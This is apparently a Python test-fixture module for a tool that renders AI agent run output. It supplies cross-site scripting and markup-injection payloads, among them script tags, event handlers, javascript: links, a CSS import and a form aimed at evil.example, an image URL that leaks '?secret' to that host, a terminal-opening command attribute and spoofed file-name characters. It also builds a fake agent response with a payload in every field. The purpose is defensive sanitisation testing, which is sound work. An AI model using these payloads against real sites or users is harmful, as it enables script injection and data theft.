"""Strings that try to run, fetch or deceive: a fixed sample, and the corpora when they are there."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

SAMPLE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'\"><iframe srcdoc='<script>alert(1)</script>'>",
    "</details></div></pre></code><script>alert(1)</script>",
    "</style><style>@import url(//evil.example)</style>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](http:api/kernels)",
    "[x](//evil.example)",
    "![x](https://evil.example/pixel.png?secret)",
    "<https://ok.example/<td>>",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<div data-commandlinker-command=terminal:create-new>x</div>",
    "<form action=//evil.example><input type=submit></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```\n</pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <td onclick=alert(1)> |",
    "{{constructor.constructor('alert(1)')()}}",
    "<!-- --><!DOCTYPE x><?php ?><![CDATA[x]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00\x1b[31m\u202egpj.exe\u2066\U000e0041<b>",
)


def corpus_payloads() -> list[str]:
    """Every payload of the folder PUFFLE_CORPORA names; empty when it is unset."""
    folder = Path(os.environ.get("PUFFLE_CORPORA", "")) / "xss"
    if "PUFFLE_CORPORA" not in os.environ or not folder.is_dir():
        return []
    payloads = folder.joinpath("payloadbox.txt").read_text(encoding="utf-8", errors="replace").splitlines()
    for name in ("dompurify.json", "blns.json"):
        payloads += json.loads(folder.joinpath(name).read_text(encoding="utf-8"))
    return payloads


def answer_full_of(payload: str) -> dict[str, Any]:
    """A completed run's answer with ``payload`` in every position a response has."""
    call = {"type": "tool-call", "toolCallId": payload, "toolName": payload, "input": {payload: payload}}
    result = {"type": "tool-result", "toolCallId": payload, "toolName": payload}
    failed = {"type": "error-text", "value": payload}
    rows = {"type": "json", "value": {payload: [{payload: payload}, {"b": payload}]}}
    parts = [
        {"type": "text", "text": payload},
        {
            "type": "text",
            "text": f"- item {payload}\n\n| a |\n|---|\n| {payload} |\n\n[{payload}]({payload})",
        },
        {"type": "text", "text": f"```{payload}\n{payload}\n```\n"},
        {"type": "reasoning", "text": payload},
        call,
        {"type": "file", "data": payload, "mediaType": payload, "filename": payload},
        {"type": "file", "data": payload, "mimeType": payload},
        {"type": payload, payload: [payload]},
    ]
    interface = [
        {"type": "source-url", "sourceId": payload, "url": payload, "title": payload},
        {"type": "source-document", "sourceId": "s", "mediaType": payload, "title": payload},
        {"type": f"tool-{payload}", "toolCallId": "u1", "state": "output-error", "errorText": payload},
        {"type": "dynamic-tool", "toolName": payload, "toolCallId": "u2", "state": payload, "input": payload},
        {"type": "file", "mediaType": payload, "url": payload, "filename": payload},
        {"type": f"data-{payload}", "data": payload},
    ]
    return {
        "runId": payload,
        "status": "completed",
        "text": payload,
        "messages": [
            *({"role": role, "content": payload} for role in ("system", "user", "assistant", payload)),
            {"role": "assistant", "content": parts, "id": payload},
            {"role": "tool", "content": [{**result, "output": failed}]},
            {"role": "tool", "content": [{**result, "output": rows}]},
            {
                "role": "tool",
                "content": [{**result, "output": {"type": "json", "value": [payload, payload]}}],
            },
            {"id": payload, "role": "assistant", "parts": interface},
            {payload: payload},
        ],
        "toolCalls": [{"toolName": payload, "args": {payload: {payload: [payload]}}}, payload],
    }
